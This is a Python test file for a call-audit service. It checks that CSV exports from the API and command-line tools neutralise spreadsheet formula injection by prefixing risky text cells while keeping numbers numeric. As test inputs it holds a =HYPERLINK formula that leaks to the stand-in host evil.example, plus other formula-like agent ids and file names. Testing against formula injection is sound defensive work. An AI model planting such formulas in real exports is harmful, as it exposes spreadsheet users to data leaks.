"""What a penetration test threw at a real server (two tenants, a keys file) and what it must get back: CSV
exports that no spreadsheet runs as formulas, GBK files read, deep JSON, odd paths and huge offsets refused
with a 422 that says why (never a 500), and a keys file truncated to nothing that keeps its last good keys.

A real uvicorn server on loopback around the real app, on its own SQLite store and keys file beside the
shared models (tests/keyed_server.py). docs/security.md, "Input limits", lists each rule with its test here.
"""

from __future__ import annotations

import csv
import io
import json
import secrets
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator

import httpx
import pytest
import soundfile as sf
from keyed_server import Served, close_private, private_runtime
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from service.access.keys import digest_of
from service.access.keysfile import KeysFile, KeySpec, PrincipalSpec, save_keys_file
from service.app import create_app
from service.audit.exports import BATCH_COLUMNS

# role, name, tenant
PRINCIPALS = [("integrator", "pbx-acme", "acme"), ("integrator", "pbx-globex", "globex"), ("qa", "qa-acme", "acme"),
              ("qa", "qa-globex", "globex"), ("supervisor", "chief", None)]
TIMELINE = Path(__file__).parent / "data" / "timelines" / "utility_006.json"
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak","点我")'


def write_keys(path: Path) -> dict[str, str]:
    """The keys file; returns name → its (test-only, plaintext) key."""
    keys = {name: f"cw_{secrets.token_urlsafe(32)}" for _, name, _ in PRINCIPALS}
    save_keys_file(path, KeysFile(principals=[
        PrincipalSpec(role=role, name=name, tenant=tenant, keys=[KeySpec(sha256=digest_of(keys[name]))])  # type: ignore[arg-type]
        for role, name, tenant in PRINCIPALS]))
    return keys


@dataclass
class Server:
    runtime: Any
    served: Served
    http: httpx.Client
    keys: dict[str, str]
    keys_path: Path
    data_dir: Path

    def auth(self, name: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.keys[name]}"}


@pytest.fixture(scope="module")
def server(runtime: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("input-limits")
    keys_path = tmp / "keys.yaml"
    keys = write_keys(keys_path)
    rt = private_runtime(runtime, tmp, keys_path)
    try:
        with Served(create_app(runtime=rt)) as served, httpx.Client(base_url=served.url, timeout=60) as http:
            yield Server(rt, served, http, keys, keys_path, tmp)
    finally:
        close_private(rt)


def csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def wait_for_batch(server: Server, batch_id: str, name: str = "chief", timeout: float = 180) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        r = server.http.get(f"/v1/audit/batches/{batch_id}", headers=server.auth(name))
        assert r.status_code == 200, r.text
        if r.json()["finished"]:
            return r.json()
        time.sleep(0.2)
    raise AssertionError(f"batch {batch_id} did not finish")


def stream_a_call(server: Server, integrator: str, call_id: str, agent_id: str) -> None:
    """A call over the real ingest socket: start, hang up, read until the server closes."""
    with connect(server.served.ws_url + "/v1/ingest", additional_headers=server.auth(integrator), open_timeout=10) as ws:
        ws.send(json.dumps({"type": "start", "call_id": call_id, "agent_id": agent_id,
                            "audio": {"encoding": "pcm_s16le", "sample_rate": 16000, "layout": "two_legs"}}))
        assert json.loads(ws.recv(timeout=10))["type"] == "started"
        ws.send(json.dumps({"type": "event", "event": "hangup", "by": "customer"}))
        try:
            while True:
                ws.recv(timeout=15)
        except ConnectionClosed:
            pass


def test_an_agent_id_from_a_start_frame_is_text_in_the_call_list_csv_and_the_report_csv(server: Server) -> None:
    from service.audit.index import sync_index

    call_id = "-2-formula"  # a call id may start with a minus, and `-2-…` is a formula to Excel
    stream_a_call(server, "pbx-acme", call_id, FORMULA_AGENT)
    store = server.runtime.store
    store.add_utterance(call_id, "customer-0", "customer", 1.0, 2.5, "@SUM(1+1)")
    store.set_utterance_emotion(call_id, "customer-0", {"valence": -0.41, "smoothed_valence": -0.41, "label": "upset"})
    sync_index(store.engine)  # what the list does by itself at most every 30 s

    export = server.http.get("/v1/audit/calls.csv", params={"agent_id": FORMULA_AGENT}, headers=server.auth("qa-acme"))
    assert export.status_code == 200, export.text
    [row] = csv_rows(export.text)
    assert row["agent_id"] == "'" + FORMULA_AGENT and row["call_id"] == "'" + call_id
    assert row["worst_valence"] == "-0.41" and row["worst_mood"] == "upset"  # a number stays a number

    report = server.http.get(f"/v1/audit/calls/{call_id}/report.csv", headers=server.auth("qa-acme"))
    assert report.status_code == 200
    [line] = [r for r in csv_rows(report.text) if r["kind"] == "utterance"]
    assert line["text"] == "'@SUM(1+1)" and line["valence"] == "-0.41" and line["start"] == "1.0"


def test_an_agent_id_from_a_metadata_csv_is_text_in_the_batch_summary_csv(server: Server, shared_audio: Path,
                                                                          tmp_path: Path) -> None:
    """A short real audit (five seconds), its agent id from the uploaded metadata CSV; and a file whose name
    starts with a minus, which fails at once as empty."""
    audio, rate = sf.read(shared_audio / "calls" / "call_03_dialogue_and_commands.wav", dtype="int16")
    clip = tmp_path / "formula_clip.wav"
    sf.write(clip, audio[: 5 * rate], rate, subtype="PCM_16")
    metadata = f'file,agent_id\nformula_clip.wav,"{FORMULA_AGENT.replace(chr(34), chr(34) * 2)}"\n'
    r = server.http.post("/v1/audit/batches", headers=server.auth("qa-acme"), files=[
        ("files", (clip.name, clip.read_bytes(), "audio/wav")), ("files", ("-2+3.wav", b"", "audio/wav")),
        ("metadata_csv", ("metadata.csv", metadata.encode(), "text/csv"))])
    assert r.status_code == 202, r.text
    batch = wait_for_batch(server, r.json()["batch_id"], "qa-acme")
    assert {j["file_name"]: j["state"] for j in batch["jobs"]} == {"formula_clip.wav": "done", "-2_3.wav": "failed"}

    summary = server.http.get(f"/v1/audit/batches/{batch['batch_id']}/summary.csv", headers=server.auth("qa-acme"))
    rows = {row["file_name"]: row for row in csv_rows(summary.text)}
    assert set(rows) == {"formula_clip.wav", "'-2_3.wav"}  # the upload's name, made safe for the disk, then for Excel
    assert rows["formula_clip.wav"]["agent_id"] == "'" + FORMULA_AGENT
    assert float(rows["formula_clip.wav"]["score"]) >= 0 and not rows["formula_clip.wav"]["score"].startswith("'")


def test_the_command_lines_summary_and_comparison_csv_neutralise_text_cells_too(tmp_path: Path) -> None:
    """`callwatch audit --format csv` and `callwatch reaudit --out` write through the same function."""
    from service.audit.models import ReauditOut, ReauditRow
    from service.audit.outputs import ReportWriter
    from service.audit.reaudit import comparison_csv

    writer = ReportWriter(tmp_path / "out", ["csv"])
    report = {"call_id": "rec-1", "agent_id": "+86 cmd", "score": 80.0, "findings": [], "worst_mood": {"valence": -0.5},
              "utterances": [{"speaker": "agent", "start": 0.5, "end": 1.5, "text": "\tsneaky", "emotion": None}]}
    written = writer.write_call(tmp_path / "@call.wav", "done", report)
    writer.write_failure(tmp_path / "=cmd.wav", "empty", "-the file is empty")
    writer.write_summary({})
    rows = {r["file_name"]: r for r in csv_rows((tmp_path / "out" / "summary.csv").read_text(encoding="utf-8"))}
    assert set(rows) == {"'@call.wav", "'=cmd.wav"} and list(rows["'=cmd.wav"])[: len(BATCH_COLUMNS)] == BATCH_COLUMNS
    assert rows["'@call.wav"]["agent_id"] == "'+86 cmd" and rows["'@call.wav"]["worst_valence"] == "-0.5"
    assert rows["'=cmd.wav"]["error"] == "'-the file is empty"
    [line] = csv_rows(written["csv"].read_text(encoding="utf-8"))
    assert line["text"] == "'\tsneaky"

    compared = ReauditOut(calls=1, changed=1, mean_old=90.0, mean_new=85.0, applied=False, rows=[
        ReauditRow(call_id="-1-call", old_score=90.0, new_score=85.0, delta=-5.0, added=["hold.apology"], removed=[])])
    [row] = csv_rows(comparison_csv(compared))
    assert row["call_id"] == "'-1-call" and row["delta"] == "-5.0"
